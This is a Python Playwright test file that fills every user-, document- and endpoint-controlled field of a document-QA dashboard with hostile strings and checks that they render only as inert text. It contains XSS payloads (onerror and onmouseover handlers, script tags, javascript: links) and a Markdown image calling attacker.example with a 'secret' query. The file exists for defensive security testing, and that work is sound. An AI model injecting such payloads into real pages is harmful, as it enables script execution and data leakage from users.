"""Every field a user, a document or an endpoint controls, filled with hostile strings, on all four pages, in Chromium.

Documents (their text and file names), an upload's name and bytes, a stored run's questions, answers, passages and
errors, a judge-check report, what the user types, and an endpoint's answers, model ids and error bodies all carry
Markdown images and links, raw HTML, autolinks, Streamlit colour and icon directives and LaTeX. On each page the
test asserts that nothing from them became a link, an image, a frame or a script, that no request left for another
host and no dialog opened, and that the payloads are there to read, as text.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from evaluation.judge_check import Confusion, JudgeInfo, ScorerReport, TrustReport, save_report
from evaluation.runstore import RunStore, SampleRow
from ingest.ingestor import ingest_files, sources_for
from settings import Settings
from tests.browser import ARTIFACTS, Offsite, block_offsite, choose, running_dashboard, wait_idle
from tests.conftest import open_store
from tests.fake_openai import FakeOpenAI, serving
from tests.hostile import ATTACKER, HOSTILE_TEXT, PAYLOADS
from ui.safe_text import WORD_JOINER

pytestmark = pytest.mark.browser
IMAGE = "![logo](https://attacker.example/logo.png?q=secret)"
# legal file names (no "/") that are Markdown, HTML, a directive and an autolink
NAMES = ["![n](https:attacker.example!n.png) [a](javascript:alert(1)).md",
         "<img src=x onerror=alert(1)> :red[x] $e^x$ _www.attacker.example.md"]
ANSWER = f"The Zephyr logo is {IMAGE}, see www.attacker.example/www and <b onmouseover=alert(1)>here</b>."
MODEL_IDS = ["![m](https://attacker.example/model.png)", "<script>alert('model')</script>"]
CAUGHT = ("a[href*='attacker'], img[src*='attacker'], a[href^='javascript'], iframe, object, embed, "
          "[onerror], [onmouseover], [onclick]")


def seed(settings: Settings, embedder, docs: Path) -> None:  # noqa: ANN001
    """A collection of hostile documents, a stored run and a judge-check report full of hostile text."""
    docs.mkdir(parents=True)
    for name in NAMES:
        (docs / name).write_text(f"# Zephyr\n\nThe Zephyr logo is {IMAGE}.\n\n{HOSTILE_TEXT}\n", encoding="utf-8")
    store = open_store(settings)
    try:  # closed before the dashboard opens the folder: embedded Qdrant allows one process per folder
        assert not ingest_files(store, embedder, sources_for(docs), "hostile", 600, 80).failed
    finally:
        store.client.close()
    runs = RunStore(settings.runs_db)
    run_id = runs.create_run(NAMES[0], 2, {"metrics": ["faithfulness"], "top_k": 4, "collection": "hostile",
                                           "grounding_policy": "annotate", "grounding_answer_threshold": 0.75})
    context = {"id": "c1", "source": NAMES[1], "score": 0.5, "similarity": 0.5, "text": HOSTILE_TEXT}
    metric = {"metric": "faithfulness", "status": "failed", "reason": HOSTILE_TEXT, "seconds": 1.0}
    common = {"reference": IMAGE, "answerable": True, "kind": HOSTILE_TEXT[:40], "contexts": [context],
              "metrics": [metric], "seconds": 1.0, "abstain_reason": None}
    runs.add_sample(run_id, SampleRow(idx=0, item_id=IMAGE, question=HOSTILE_TEXT, answer=ANSWER, abstained=False,
                                      outcome="wrong_answer", error=None, answer_check_p=0.4, **common))
    runs.add_sample(run_id, SampleRow(idx=1, item_id="2", question=IMAGE, answer=None, abstained=None,
                                      outcome="error", error=HOSTILE_TEXT, **common))
    runs.finish_run(run_id, "failed", HOSTILE_TEXT)
    judge = JudgeInfo(grounding_model=MODEL_IDS[0], grounding_endpoint="http://127.0.0.1:9/v1", grounding_threshold=0.4,
                      answer_check=True, answer_threshold=0.75, term_veto=True)
    scorer = ScorerReport(scorer="grounding", cut=HOSTILE_TEXT[:60], n_scored=0, n_failed=2, auc=None,
                          confusion=Confusion(tp=0, fp=0, fn=0, tn=0), first_error=HOSTILE_TEXT)
    save_report(settings, TrustReport(id="20260101-000000", started_at="2026-01-01T00:00:00",
                                      finished_at="2026-01-01T00:01:00", status="completed", pairs=NAMES[1],
                                      n_questions=1, n_answers=2, seconds=60.0, judge=judge, scorers=[scorer],
                                      answers=[]))


@pytest.fixture
def hostile_endpoint() -> Iterator[FakeOpenAI]:
    with serving(ANSWER) as server:
        server.model_ids = [*MODEL_IDS, "qwen2.5-0.5b", "qwen2.5-1.5b"]
        server.error_message = f"upstream said {IMAGE} <img src=https://attacker.example/err.png>"
        yield server


def inert(page: Page, offsite: Offsite, where: str, must_read: tuple[str, ...] = ()) -> None:
    """Nothing hostile became active anywhere on the page; what must be read is there as text."""
    wait_idle(page)
    for expander in page.get_by_test_id("stMain").get_by_test_id("stExpander").all():
        if expander.locator("details").get_attribute("open") is None:
            expander.locator("summary").click()
    page.wait_for_timeout(700)
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"hostile_{where}.png"), full_page=True)
    caught = page.locator(CAUGHT)
    assert caught.count() == 0, (where, caught.evaluate_all("es => es.map(e => e.outerHTML.slice(0, 200))"))
    foreign = page.evaluate("""() => [...document.querySelectorAll('a[href], img[src], iframe[src], script[src]')]
        .map(e => e.href || e.src).filter(u => u && !u.startsWith(location.origin) && !u.startsWith('data:')
        && !u.startsWith('blob:') && !u.startsWith('about:'))""")
    assert foreign == [], (where, foreign)
    assert offsite.requests == [], (where, offsite.requests)
    assert offsite.dialogs == [], (where, offsite.dialogs)
    shown = " ".join(page.get_by_test_id("stMain").inner_text().replace(WORD_JOINER, "").split())
    for text in must_read:
        assert " ".join(text.split()) in shown, (where, text)
    expect(page.get_by_test_id("stException")).to_have_count(0)


def test_hostile_strings_on_every_page_stay_text(settings, embedder, hostile_endpoint, page: Page, tmp_path):
    seed(settings, embedder, settings.data_dir / "docs")
    env = {"FQA_DATA_DIR": str(settings.data_dir), "FQA_COLLECTION": "hostile", "FQA_INGEST_ROOTS": str(settings.data_dir),
           "OPENAI_BASE_URL": hostile_endpoint.base_url, "FQA_JUDGE_MODEL": "judge-not-served"}
    with running_dashboard(**env) as url:
        offsite = block_offsite(page, url)

        # Ask: the question typed, the answer streamed and checked, citations, then an endpoint's error body
        page.goto(url)
        expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible(timeout=60_000)
        page.get_by_role("textbox", name="Question").fill(f"What is the Zephyr logo? {PAYLOADS[0]} {PAYLOADS[5]}")
        page.get_by_role("button", name="Ask").click()
        expect(page.get_by_text("claims supported").first).to_be_visible(timeout=120_000)
        inert(page, offsite, "ask", (IMAGE, "www.attacker.example/www", PAYLOADS[5]))
        hostile_endpoint.fail_after = 0
        page.get_by_role("textbox", name="Question").fill("What is the Zephyr logo, again?")
        page.get_by_role("button", name="Ask").click()
        expect(page.get_by_test_id("stAlertContentError")).to_be_visible(timeout=120_000)
        inert(page, offsite, "ask_error", ("upstream said " + IMAGE,))
        hostile_endpoint.fail_after = None

        # Knowledge base: hostile document names in the preview, a hostile upload failing with its bytes in the
        # error, a typed search, a chunk with its neighbours, a delete notice
        page.goto(f"{url}/knowledge_base")
        expect(page.get_by_role("heading", name="Add documents")).to_be_visible(timeout=60_000)
        page.get_by_role("textbox", name="Or a folder on this machine").fill(str(settings.data_dir / "docs"))
        page.keyboard.press("Enter")
        wait_idle(page)
        page.locator("input[type=file]").set_input_files([{
            "name": NAMES[0].replace(".md", ".pdf"), "mimeType": "application/pdf",
            "buffer": f"%PDF-1.4\n1 0 obj\n{IMAGE} <img src=https://attacker.example/pdf.png>\nendobj\n%%EOF".encode()}])
        wait_idle(page)
        preview = page.get_by_test_id("stExpander").filter(has_text="Preview how a document will be chunked")
        preview.locator("summary").click()
        choose(page, "Document", "docs/" + NAMES[0], within=preview)
        page.get_by_role("checkbox", name="Ingest the bundled sample").uncheck()
        page.get_by_role("button", name="Ingest").click()
        expect(page.get_by_test_id("stAlertContentError").first).to_contain_text("failed", timeout=120_000)
        page.get_by_role("textbox", name="Search chunks by text").fill("![logo]")
        page.keyboard.press("Enter")
        wait_idle(page)
        inert(page, offsite, "knowledge_base", (NAMES[0], "1 failed"))
        choose(page, "Document in 'hostile'", "docs/" + NAMES[1])
        page.get_by_role("button", name="Delete document").click()
        expect(page.get_by_test_id("stAlertContentSuccess").filter(has_text="Deleted")).to_be_visible(timeout=60_000)
        inert(page, offsite, "knowledge_base_delete", ("Deleted docs/" + NAMES[1],))

        # Evaluation: a failed run's error, hostile questions, answers and passages in the drill-down, a judge-check
        # report and upload with hostile names, and a run refused with the endpoint's hostile model ids
        page.goto(f"{url}/evaluation?q=1")
        expect(page.get_by_role("heading", name="Per question")).to_be_visible(timeout=60_000)
        page.get_by_text("Can this judge be trusted?").click()
        pairs = "".join(json.dumps({"id": f"h-{label}", "qid": "h", "knowledge": HOSTILE_TEXT, "question": IMAGE,
                                    "answer": ANSWER, "label": label}) + "\n" for label in ("faithful", "hallucinated"))
        page.locator("input[type=file]").last.set_input_files([{"name": NAMES[1].replace(".md", ".jsonl"),
                                                                "mimeType": "application/json",
                                                                "buffer": pairs.encode()}])
        wait_idle(page)
        inert(page, offsite, "evaluation", (HOSTILE_TEXT.splitlines()[0], ANSWER))
        page.get_by_role("button", name="Run evaluation").click()  # inert() opened its expander
        expect(page.get_by_text("does not serve model")).to_be_visible(timeout=60_000)
        inert(page, offsite, "evaluation_refused", (MODEL_IDS[0], MODEL_IDS[1]))

        # Tune: the hostile run in the coverage tab
        page.goto(f"{url}/tune?gate=answer_check")
        expect(page.get_by_role("heading", name="Tune")).to_be_visible(timeout=60_000)
        page.get_by_role("tab", name="Coverage trade-offs").click()
        inert(page, offsite, "tune")
    assert hostile_endpoint.chat_requests, "the Ask page never reached the endpoint"
    assert ATTACKER not in " ".join(offsite.requests)
